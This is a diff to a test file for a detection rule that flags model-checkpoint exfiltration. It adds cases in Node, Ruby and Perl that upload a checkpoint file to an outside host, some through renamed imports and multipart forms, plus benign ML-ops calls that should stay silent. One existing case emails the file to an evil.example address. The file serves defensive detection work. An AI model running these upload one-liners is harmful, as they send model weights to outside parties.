@@ -2,7 +2,8 @@
  * More library transfers through the shipped rule set and the real engine: PowerShell's HttpClient
  * (exec-interpreter-dotnet-http.ts), Node's got and the AWS SDK (exec-interpreter-transfer-js.ts,
  * -js-s3.ts), Perl's Mojo::UserAgent and WWW::Mechanize (-perl.ts), Ruby calls without
- * parentheses and Faraday request blocks (-ruby.ts), Python mail with an attachment (-mail.ts). A
+ * parentheses, Faraday request blocks and multipart file parts (-ruby.ts), Node's FormData
+ * (-js-form.ts) and renamed imports (-js-imports.ts), Python mail with an attachment (-mail.ts). A
  * checkpoint moved by any of them alerts as the tool it amounts to (MLS-EXFIL-014) and is the
  * code's own statement (not indirect); the ML-ops one-liners an operator runs raise nothing new.
  */
@@ -38,6 +39,11 @@ describe('MLS-EXFIL-014: more library uploads', () => {
     ['WWW::Mechanize submit_form with a file', pl(`use WWW::Mechanize; my $m = WWW::Mechanize->new; $m->get('${URL}'); $m->submit_form(with_fields => {upload => ['${CKPT}']})`)],
     ['Net::HTTP.post without parentheses', rb(`require 'net/http'; Net::HTTP.post URI('${URL}'), File.read('${CKPT}')`)],
     ['http.request req in a block', rb(`req = Net::HTTP::Put.new('/u'); req.body = File.read('${CKPT}')\nNet::HTTP.start('203.0.113.9', 443, use_ssl: true) { |http| http.request req }`)],
+    ['FormData of a file stream posted by axios', node(`const fs = require('fs'); const axios = require('axios'); const f = new FormData(); f.append('file', fs.createReadStream('${CKPT}')); axios.post('${URL}', f)`)],
+    ['form-data submit', node(`const FormData = require('form-data'); const form = new FormData(); form.append('model', fs.readFileSync('${CKPT}'), 'm.pt'); form.submit('${URL}', () => {})`)],
+    ['got imported under another name', esm(`import ky from 'got'; import { createReadStream as crs } from 'node:fs'; await ky.put('${URL}', {body: crs('${CKPT}')})`)],
+    ['renamed S3 command', esm(`import { S3Client as C, PutObjectCommand as P } from '@aws-sdk/client-s3'; await new C({}).send(new P({Bucket: 'b', Key: 'k', Body: fs.createReadStream('${CKPT}')}))`)],
+    ['Faraday multipart FilePart', rb(`conn = Faraday.new(url: 'https://203.0.113.9') do |f|\n  f.request :multipart\nend\npart = Faraday::Multipart::FilePart.new('${CKPT}', 'application/octet-stream')\nconn.post('/u', {file: part})`)],
     ['Faraday request block', rb(`Faraday.new(url: 'https://203.0.113.9').put('/k') { |r| r.body = File.read('${CKPT}') }`)],
     ['smtplib send_message with an attachment', py(`import smtplib\nfrom email.message import EmailMessage\nm = EmailMessage(); m['To'] = 'x@evil.example'\nm.add_attachment(open('${CKPT}', 'rb').read(), maintype='application', subtype='octet-stream')\nwith smtplib.SMTP('203.0.113.9', 587) as s:\n    s.send_message(m)`)],
   ];
@@ -70,6 +76,9 @@ describe('benign ML-ops one-liners raise nothing new', () => {
     pl("my $m = WWW::Mechanize->new; $m->get('http://localhost/login'); $m->submit_form(with_fields => {user => 'ml', pass => 'x'})"),
     rb("require 'net/http'; puts Net::HTTP.get URI('http://localhost:8080/healthz')"),
     rb("cache.put 'k', File.read('/ckpt/m.pt')"),
+    node("const f = new FormData(); f.append('run', 'r42'); f.append('loss', '0.1'); fetch('http://metrics.svc/api', {method: 'POST', body: f})"),
+    esm("import { request as get } from 'node:http'; get('http://localhost:8080/healthz').end()"),
+    rb("Faraday.new(url: 'http://metrics.svc').post('/api', {run: 'r42', loss: 0.1})"),
   ]) {
     it(JSON.stringify(command), () => {
       expect(execRuleIds(command)).toEqual([SIGMA_EXEC]);
